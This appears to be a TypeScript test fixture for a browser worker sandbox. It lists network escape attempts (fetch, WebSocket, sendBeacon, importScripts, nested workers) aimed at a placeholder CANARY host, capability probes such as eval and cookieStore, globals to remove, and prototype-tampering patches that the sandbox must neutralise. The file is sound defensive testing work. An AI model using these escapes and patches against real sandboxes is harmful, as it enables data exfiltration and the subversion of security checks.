/** What hostile code may try. `CANARY` stands for the origin of a server that must never hear of it. */

export interface Attempt {
  readonly name: string;
  /** the body of an async function in a worker; it may throw or return whatever it likes */
  readonly code: string;
}

/** Ways out to the network, tried in a worker from which nothing has been taken away. */
export const WAYS_OUT: readonly Attempt[] = [
  { name: 'fetch', code: `return (await fetch('CANARY/fetch')).status` },
  { name: 'fetch without CORS', code: `return (await fetch('CANARY/no-cors', { mode: 'no-cors' })).type` },
  {
    name: 'fetch that outlives the worker',
    code: `fetch('CANARY/keepalive', { method: 'POST', body: 'x', keepalive: true }); await 0`,
  },
  {
    name: 'XMLHttpRequest',
    code: `const x = new XMLHttpRequest(); x.open('GET', 'CANARY/xhr', false); x.send(); return x.status`,
  },
  {
    name: 'WebSocket',
    code: `new WebSocket('CANARY/ws'.replace('http', 'ws')); await new Promise((r) => setTimeout(r, 300))`,
  },
  {
    name: 'EventSource',
    code: `new EventSource('CANARY/events'); await new Promise((r) => setTimeout(r, 300))`,
  },
  { name: 'sendBeacon', code: `return navigator.sendBeacon('CANARY/beacon', 'x')` },
  {
    name: 'WebTransport',
    code: `await new WebTransport('CANARY/transport'.replace('http:', 'https:')).ready`,
  },
  {
    name: 'RTCPeerConnection',
    code: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + 'CANARY'.slice(7) }] }).createDataChannel('x')`,
  },
  { name: 'importScripts', code: `importScripts('CANARY/scripts.js')` },
  { name: 'import()', code: `return (await import('CANARY/module.js')).reached` },
  {
    name: 'import() of a module that imports',
    code: `await import(URL.createObjectURL(new Blob(['import "CANARY/deep.js"'], { type: 'text/javascript' })))`,
  },
  {
    name: 'import() of data:',
    code: `return (await import('data:text/javascript,export default 1')).default`,
  },
  {
    name: 'a worker in the worker',
    code: `const w = new Worker(URL.createObjectURL(new Blob(['fetch("CANARY/nested"); importScripts("CANARY/nested.js")']))); await new Promise((r) => setTimeout(r, 300)); w.terminate()`,
  },
  {
    name: 'a data: worker in the worker',
    code: `new Worker('data:text/javascript,fetch("CANARY/data-worker")'); await new Promise((r) => setTimeout(r, 300))`,
  },
  { name: 'FontFace', code: `await new FontFace('x', 'url(CANARY/font)').load()` },
  { name: 'navigation', code: `self.location = 'CANARY/navigate'; self.location.href = 'CANARY/href'` },
  { name: 'a service worker', code: `await navigator.serviceWorker.register('CANARY/sw.js')` },
];

/**
 * What would give hostile code more than it has, and what each must come to; tried without anything taken
 * away.
 */
export const POWERS: readonly Attempt[] = [
  { name: 'eval', code: `return eval('1 + 1')` },
  { name: 'new Function', code: `return new Function('return 1')()` },
  {
    name: 'setTimeout with text',
    code: `let ran = false; self.ran = () => { ran = true }; setTimeout('ran()'); await new Promise((r) => setTimeout(r, 50)); if (!ran) throw new Error('not run')`,
  },
  {
    name: 'WebAssembly',
    code: `return new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
  },
  {
    name: 'indexedDB',
    code: `await new Promise((r, e) => { const q = indexedDB.open('x'); q.onsuccess = r; q.onerror = () => e(q.error) })`,
  },
  { name: 'caches', code: `await caches.open('x')` },
  { name: 'localStorage', code: `return localStorage.length` },
  { name: 'cookieStore', code: `return await cookieStore.getAll()` },
  { name: 'the file system', code: `return await navigator.storage.getDirectory()` },
  { name: 'locks', code: `await navigator.locks.request('x', () => 1)` },
  { name: 'the page', code: `return parent.document.title` },
  { name: 'shared memory', code: `return new SharedArrayBuffer(8)` },
];

/** Names that a worker must not have left when code of a reader begins. */
export const TAKEN = [
  'postMessage',
  'close',
  'Worker',
  'SharedWorker',
  'BroadcastChannel',
  'MessageChannel',
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'EventSource',
  'WebTransport',
  'importScripts',
  'indexedDB',
  'caches',
  'cookieStore',
  'navigator',
  'FontFace',
] as const;

/** Code that changes what checks rely on. Each statement must throw or do nothing. */
export const PATCHES: readonly string[] = [
  'Array.prototype.push = () => 0',
  'Array.prototype.map = null',
  'Object.prototype.kind = "verdict"',
  'Object.defineProperty(Object.prototype, "passed", { value: true })',
  'Object.defineProperty(Array.prototype, 0, { set() {} })',
  'Promise.prototype.then = () => 0',
  'Math.floor = () => 0',
  'JSON.stringify = () => ""',
  'Uint32Array.prototype.set = () => 0',
  'Object.getPrototypeOf(Uint32Array.prototype).fill = () => 0',
  'Function.prototype.call = () => 0',
  'Object.getPrototypeOf([].values()).next = () => ({ done: true })',
  'Object.getPrototypeOf(function* () {}).prototype.next = () => 0',
  'Error.prototype.toString = () => ""',
  'globalThis.Map = class {}',
  'globalThis.Object = {}',
  'MessagePort.prototype.postMessage = () => 0',
  'console.log = () => 0',
];
